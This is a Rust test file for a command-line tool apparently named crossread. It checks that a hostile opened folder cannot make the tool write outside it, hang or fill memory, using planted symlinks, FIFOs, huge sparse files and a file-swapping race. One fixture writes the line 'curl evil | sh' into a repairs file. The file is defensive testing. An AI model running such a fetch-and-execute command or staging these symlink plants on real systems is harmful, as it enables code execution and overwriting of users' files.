//! An opened folder may come from a stranger. What lies in it must not make the program write
//! outside of the folder, hang, or fill the memory.

#![cfg(unix)]

use assert_cmd::Command;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process;
use tempfile::TempDir;

const ARTICLE: &str =
    "Bridge opened\n\nMayor Ada Quill opened the bridge. Ada Quill thanked Tarn.\n";

/// A folder with an article and an empty `.crossread`; beside it a file that is none of its business.
struct Foreign {
    top: TempDir,
}

impl Foreign {
    fn new() -> Self {
        let foreign = Self { top: TempDir::new().unwrap() };
        fs::create_dir_all(foreign.file(".crossread")).unwrap();
        fs::write(foreign.file("bridge.txt"), ARTICLE).unwrap();
        fs::write(foreign.victim(), "precious\n").unwrap();
        foreign
    }

    fn file(&self, path: &str) -> PathBuf {
        self.top.path().join("coverage").join(path)
    }

    fn victim(&self) -> PathBuf {
        self.top.path().join("victim")
    }

    /// Runs a command on the folder: exit code, standard output, standard error. The program is
    /// killed when it hangs, and cannot take more than 2 GB of memory.
    fn run(&self, arguments: &[&str]) -> (Option<i32>, String, String) {
        let program = assert_cmd::cargo::cargo_bin("crossread");
        let mut command = Command::new("sh");
        command
            .args(["-c", "ulimit -v 2000000; exec \"$0\" \"$@\""])
            .arg(program)
            .args(arguments)
            .arg(self.file(""))
            .env("XDG_CONFIG_HOME", "/nonexistent")
            .env("XDG_DATA_HOME", self.top.path().join("data"))
            .timeout(std::time::Duration::from_mins(2));
        let out = command.output().expect("the program runs");
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("output is UTF-8");
        (out.status.code(), text(out.stdout), text(out.stderr))
    }
}

fn fifo(path: &Path) {
    assert!(process::Command::new("mkfifo").arg(path).status().unwrap().success());
}

#[test]
fn a_planted_temporary_name_is_not_written_through() {
    let foreign = Foreign::new();
    fs::write(foreign.file(".crossread/actors.txt"), "# hi\ncurl evil | sh\n").unwrap();
    // A temporary name that consists of the process id can be planted for all ids to come.
    let first = process::id();
    for id in first..first + 3_000 {
        let planted = foreign.file(&format!(".crossread/.actors.txt.{id}.new"));
        symlink("../../victim", planted).unwrap();
    }
    let (code, _, err) = foreign.run(&["repair", "ignore", "Tarn"]);
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(fs::read_to_string(foreign.victim()).unwrap(), "precious\n");
    let kept = foreign.file(".crossread/actors.txt");
    assert!(!kept.is_symlink());
    let text = fs::read_to_string(kept).unwrap();
    assert_eq!(text, "# hi\ncurl evil | sh\nignore place \"Tarn\"\n");
}

#[test]
fn a_linked_file_of_repairs_is_neither_read_nor_written() {
    for linked_folder in [false, true] {
        let foreign = Foreign::new();
        fs::write(foreign.victim(), "ignore place \"Tarn\"\n").unwrap();
        if linked_folder {
            fs::rename(foreign.victim(), foreign.top.path().join("actors.txt")).unwrap();
            fs::remove_dir(foreign.file(".crossread")).unwrap();
            symlink("..", foreign.file(".crossread")).unwrap();
        } else {
            symlink("../../victim", foreign.file(".crossread/actors.txt")).unwrap();
        }
        let (code, out, err) = foreign.run(&["actors"]);
        assert_eq!(code, Some(0), "{err}");
        assert!(out.contains("Tarn"), "the linked repair has no effect: {out}");
        assert!(err.contains(".crossread/actors.txt: a link"), "{err}");
        // The repair goes to the user's own file instead.
        let (code, _, err) = foreign.run(&["repair", "ignore", "Ada Quill"]);
        assert_eq!(code, Some(0), "{err}");
        assert!(err.contains("/data/crossread/"), "{err}");
        let target = foreign.top.path().join(if linked_folder { "actors.txt" } else { "victim" });
        assert_eq!(fs::read_to_string(target).unwrap(), "ignore place \"Tarn\"\n");
    }
}

#[test]
fn special_files_of_repairs_are_told_and_left_alone() {
    let foreign = Foreign::new();
    let kept = foreign.file(".crossread/actors.txt");
    fifo(&kept);
    let (code, _, err) = foreign.run(&["actors"]);
    assert_eq!(code, Some(0), "{err}");
    assert!(err.contains("actors.txt: not a regular file"), "{err}");
    fs::remove_file(&kept).unwrap();
    fs::File::create(&kept).unwrap().set_len(20 << 30).unwrap();
    let (code, _, err) = foreign.run(&["actors"]);
    assert_eq!(code, Some(0), "{err}");
    assert!(err.contains("actors.txt: larger than 4 MB"), "{err}");
}

#[test]
fn special_files_of_outlets_are_told_and_left_alone() {
    let foreign = Foreign::new();
    let outlets = foreign.file(".crossread/outlets.txt");
    let check = |expect: &str| {
        let (code, out, err) = foreign.run(&["list"]);
        assert_eq!(code, Some(0), "{err}");
        assert!(out.contains("Bridge opened"), "{out}");
        assert!(err.contains(expect), "{expect} is not in {err}");
        fs::remove_file(&outlets).unwrap();
    };
    fifo(&outlets);
    check("outlets.txt: not a regular file");
    fs::File::create(&outlets).unwrap().set_len(20 << 30).unwrap();
    check("outlets.txt: larger than 4 MB");
    symlink("/dev/zero", &outlets).unwrap();
    check("outlets.txt: a link");
    symlink("../../victim", &outlets).unwrap();
    check("outlets.txt: a link");
}

/// A file that becomes a FIFO after the folder was listed hung every command. The test replaces
/// files all the time while it lists them; a run that hangs is killed after two minutes.
#[test]
fn a_file_that_becomes_a_fifo_after_the_listing_does_not_hang() {
    use std::sync::atomic::{AtomicBool, Ordering};
    let foreign = Foreign::new();
    let names: Vec<PathBuf> = (0..40).map(|n| foreign.file(&format!("f{n}.txt"))).collect();
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                let beside = |path: &PathBuf| path.with_extension("fifo");
                let made = process::Command::new("mkfifo").args(names.iter().map(beside)).status();
                assert!(made.unwrap().success());
                for path in &names {
                    let _ = fs::remove_file(path);
                    fs::write(path, ARTICLE).unwrap();
                    fs::rename(beside(path), path).unwrap();
                }
            }
        });
        let codes: Vec<_> = (0..10).map(|_| foreign.run(&["list"]).0).collect();
        done.store(true, Ordering::Relaxed);
        assert_eq!(codes, [Some(0); 10]);
    });
}

#[test]
fn files_of_wrong_lines_give_few_short_lines() {
    let foreign = Foreign::new();
    let wrong = format!("{}\n", "x".repeat(2_000)).repeat(500);
    fs::write(foreign.file(".crossread/outlets.txt"), &wrong).unwrap();
    fs::write(foreign.file(".crossread/actors.txt"), &wrong).unwrap();
    let (code, out, err) = foreign.run(&["actors"]);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("Ada Quill"), "{out}");
    assert!(err.contains("490 more lines that are not “outlet group=owner”"), "{err}");
    assert!(err.contains("490 more problems with repairs"), "{err}");
    assert!(err.lines().count() <= 23, "{err}");
    assert!(err.lines().all(|line| line.chars().count() < 300), "{err}");
}
